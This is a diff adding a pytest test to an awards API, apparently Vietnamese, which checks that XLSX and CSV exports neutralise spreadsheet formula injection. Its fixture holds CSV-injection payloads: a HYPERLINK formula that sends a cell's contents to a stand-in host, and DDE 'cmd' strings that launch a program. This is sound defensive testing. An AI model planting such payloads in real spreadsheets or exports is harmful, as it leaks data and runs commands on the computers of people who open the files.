@@ -282,3 +282,49 @@ def test_a_correction_within_bounds_is_kept(client: TestClient, award_row: dict[
     answer = client.patch(path, json={"amount_vnd": 10**12, "reason": "r" * 5000})
     assert answer.status_code == 200, answer.text[:300]
     assert client.get(path).json()["amount_vnd"] == 10**12
+
+
+# --- 6. Formula-safe exports ------------------------------------------------------------
+
+FORMULAS = {
+    "name": '=HYPERLINK("http://example.invalid/?x="&A1,"Bấm vào đây")',
+    "unit": "+1+cmd|' /C calc'!A0",
+    "position": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "reason": "-2+3",
+}
+
+
+def test_text_that_looks_like_a_formula_is_exported_as_text(
+    client: TestClient, award_row: dict[str, Any]
+) -> None:
+    import csv
+
+    from openpyxl import load_workbook
+
+    answer = client.patch(f"/api/v1/awards/{award_row['id']}", json=FORMULAS)
+    assert answer.status_code == 200, answer.text
+    params = {"document_id": award_row["decision"]["document_id"]}
+
+    xlsx = client.get("/api/v1/awards/export", params={**params, "format": "xlsx"})
+    sheet = load_workbook(io.BytesIO(xlsx.content)).active
+    assert sheet is not None
+    headers = [cell.value for cell in sheet[1]]
+    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == award_row["id"])
+    cells = {headers[i]: cell for i, cell in enumerate(row)}
+    for header, field in [("Họ và tên / Tập thể", "name"), ("Đơn vị", "unit"),
+                          ("Chức vụ", "position")]:  # fmt: skip
+        assert cells[header].data_type == "s", (field, cells[header].data_type)
+        assert cells[header].value == FORMULAS[field]
+    assert all(cell.data_type != "f" for r in sheet.iter_rows() for cell in r)
+
+    text = client.get("/api/v1/awards/export", params={**params, "format": "csv"}).text
+    lines = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
+    header, rows = lines[0], [r for r in lines[1:] if r[0] == str(award_row["id"])]
+    exported = dict(zip(header, rows[0], strict=True))
+    assert exported["Họ và tên / Tập thể"] == "'" + FORMULAS["name"]
+    assert exported["Đơn vị"] == "'" + FORMULAS["unit"]
+    assert exported["Chức vụ"] == "'" + FORMULAS["position"]
+    assert not any(cell.startswith(("=", "+", "-", "@")) for r in lines[1:] for cell in r)
+
+    rows_json = client.get("/api/v1/awards/export", params={**params, "format": "json"}).json()
+    assert FORMULAS["name"] in [r["name"] for r in rows_json]  # JSON keeps the value as is
